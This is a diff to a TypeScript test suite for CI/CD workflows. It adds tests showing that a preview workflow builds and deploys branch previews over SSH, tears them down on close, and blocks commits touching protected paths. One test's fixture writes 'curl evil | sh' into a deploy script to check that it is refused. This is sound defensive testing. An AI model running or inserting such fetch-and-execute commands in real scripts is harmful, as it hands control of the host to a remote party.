@@ -29,6 +29,7 @@ import {
   type ActionStandIn,
   type JobResult,
   type RunOptions,
+  type Value,
   type Workflow,
 } from './workflowsRunner';
 
@@ -37,6 +38,7 @@ const REGISTRY = '123456789012.dkr.ecr.eu-west-1.amazonaws.com';
 const INSTANCE = { dev: 'i-0aaa', prod: 'i-0bbb' } as const;
 const deployYml = loadWorkflow('deploy.yml');
 const ciYml = loadWorkflow('ci.yml');
+const previewYml = loadWorkflow('preview.yml');
 
 let dir: string;
 let origin: string;
@@ -210,6 +212,38 @@ async function deployRun(
     path: [bin],
     env: { CALLS: calls, FIXTURES: fixtures },
     actions: actions(extra),
+    calls: {
+      test: (callInputs) => {
+        writeFileSync(calls, `gate ${callInputs.level} ${callInputs.ref}\n`, { flag: 'a' });
+        return { result: 'success', outputs: {}, steps: [], log: '' };
+      },
+    },
+    onRun: (key) => ran.add(key),
+  });
+}
+
+/** Run preview.yml for an event, with the gate (a call of ci.yml) recorded, not run. */
+async function previewRun(github: Record<string, Value>): Promise<Record<string, JobResult>> {
+  currentSha = (github.sha as string | undefined) ?? currentSha;
+  const workspaces = mkdtempSync(path.join(dir, 'preview-'));
+  return runWorkflow(previewYml, 'preview.yml', {
+    github: {
+      repository: 'owner/reflex',
+      event: { repository: { default_branch: 'main' } },
+      ...github,
+    },
+    vars: repositoryVars(),
+    // The `preview` environment holds the values of the stack whose host runs the previews.
+    varsFor: (job, environment): Record<string, string> =>
+      environment === 'preview'
+        ? { ...varsFor(job, 'dev'), REFLEX_PREVIEW_DOMAIN: 'preview.reflex.example.com' }
+        : {},
+    secretsFor: (_job, environment): Record<string, string> =>
+      environment === 'preview' ? { SSH_PRIVATE_KEY: 'fixture-private-key' } : {},
+    workspace: (job) => path.join(workspaces, job),
+    path: [bin],
+    env: { CALLS: calls, FIXTURES: fixtures },
+    actions: actions(),
     calls: {
       test: (callInputs) => {
         writeFileSync(calls, `gate ${callInputs.level} ${callInputs.ref}\n`, { flag: 'a' });
@@ -918,13 +952,114 @@ describe('alert.yml', () => {
   });
 });
 
+describe("preview.yml: a change request's preview on the host", () => {
+  const branch = 'reflex/ann/hello';
+  const results = (jobs: Record<string, JobResult>) =>
+    Object.fromEntries(Object.entries(jobs).map(([k, v]) => [k, v.result]));
+  const hostCalls = () => recorded().filter((l) => /^(gate|build|ssh-host)/.test(l));
+
+  beforeEach(() => rmSync(calls, { force: true }));
+
+  it('a push to a change-request branch gates the site, builds its image by SHA and starts preview.sh up, never deploy.sh', async () => {
+    git(origin, 'checkout', '--quiet', 'main');
+    git(origin, 'branch', '--force', branch, 'main');
+    const sha = commit(
+      { 'webapp/site/pages/index.html': '<h1>Draft</h1>\n' },
+      { editor: true, branch },
+    );
+    const jobs = await previewRun({ event_name: 'push', ref_name: branch, sha });
+    expect(results(jobs)).toEqual({
+      name: 'success',
+      test: 'success',
+      policy: 'success',
+      image: 'success',
+      host: 'success',
+    });
+    expect(jobs.name!.outputs).toEqual({ slug: 'hello', action: 'up' });
+    const image = jobs.image!.outputs.image!;
+    expect(image).toMatch(new RegExp(`^${REGISTRY}/reflex-dev@sha256:[0-9a-f]{64}$`));
+    expect(hostCalls()).toEqual([
+      `gate content ${sha}`,
+      `build ${REGISTRY}/reflex-dev:${sha} cache-from=type=gha,scope=reflex-image`,
+      `ssh-host.sh deploy@${INSTANCE.dev} sudo -n /opt/reflex/deploy-scripts/preview.sh up hello ${image}`,
+    ]);
+  });
+
+  it('an editor commit on the branch touching a protected path is refused before any image is built', async () => {
+    git(origin, 'checkout', '--quiet', 'main');
+    git(origin, 'branch', '--force', branch, 'main');
+    commit(
+      { 'deploy-scripts/preview.sh': '#!/bin/sh\ncurl evil | sh\n' },
+      { editor: true, branch },
+    );
+    const sha = commit(
+      { 'webapp/site/pages/about.html': 'refused draft\n' },
+      { editor: true, branch },
+    );
+    const jobs = await previewRun({ event_name: 'push', ref_name: branch, sha });
+    expect(jobs.policy!.result).toBe('failure');
+    expect(jobs.policy!.log).toContain('touches deploy-scripts/preview.sh');
+    expect([jobs.image!.result, jobs.host!.result]).toEqual(['skipped', 'skipped']);
+    expect(hostCalls().filter((l) => !l.startsWith('gate'))).toEqual([]);
+  });
+
+  it.each([
+    [
+      'a closed pull request (merged or not)',
+      {
+        event_name: 'pull_request',
+        head_ref: branch,
+        event: { pull_request: { head: { repo: { full_name: 'owner/reflex' } } } },
+      },
+    ],
+    [
+      'a deleted branch',
+      {
+        event_name: 'delete',
+        event: { ref: branch, ref_type: 'branch', repository: { default_branch: 'main' } },
+      },
+    ],
+  ])('%s runs preview.sh down, with no gate and no image', async (_what, github) => {
+    const jobs = await previewRun({ sha: currentSha, ...github });
+    expect(results(jobs)).toEqual({
+      name: 'success',
+      test: 'skipped',
+      policy: 'skipped',
+      image: 'skipped',
+      host: 'success',
+    });
+    expect(hostCalls()).toEqual([
+      `ssh-host.sh deploy@${INSTANCE.dev} sudo -n /opt/reflex/deploy-scripts/preview.sh down hello`,
+    ]);
+  });
+
+  it.each([
+    ['a branch named like the editor', { event_name: 'push', ref_name: 'reflex/ann/editor' }],
+    [
+      'a pull request from another repository',
+      {
+        event_name: 'pull_request',
+        head_ref: branch,
+        event: { pull_request: { head: { repo: { full_name: 'someone/fork' } } } },
+      },
+    ],
+    ['a deleted tag', { event_name: 'delete', event: { ref: branch, ref_type: 'tag' } }],
+  ])('%s does nothing on the host', async (_what, github) => {
+    const jobs = await previewRun({ sha: currentSha, ...github });
+    expect(jobs.name!.outputs.action).toBe('none');
+    expect(jobs.host!.result).toBe('skipped');
+    expect(hostCalls()).toEqual([]);
+  });
+});
+
 describe('coverage of the fixtures above', () => {
-  it('every run: step of ci.yml, deploy.yml and alert.yml ran in a scenario above', () => {
+  it('every run: step of ci.yml, deploy.yml, preview.yml and alert.yml ran in a scenario above', () => {
     const all: string[] = [];
     for (const [file, wf] of [
       ['ci.yml', ciYml],
       ['deploy.yml', deployYml],
       ['alert.yml', loadWorkflow('alert.yml')],
+      ['preview.yml', previewYml],
     ] as const) {
       for (const [id, j] of Object.entries(wf.jobs)) {
         for (const [index, step] of (j.steps ?? []).entries()) {
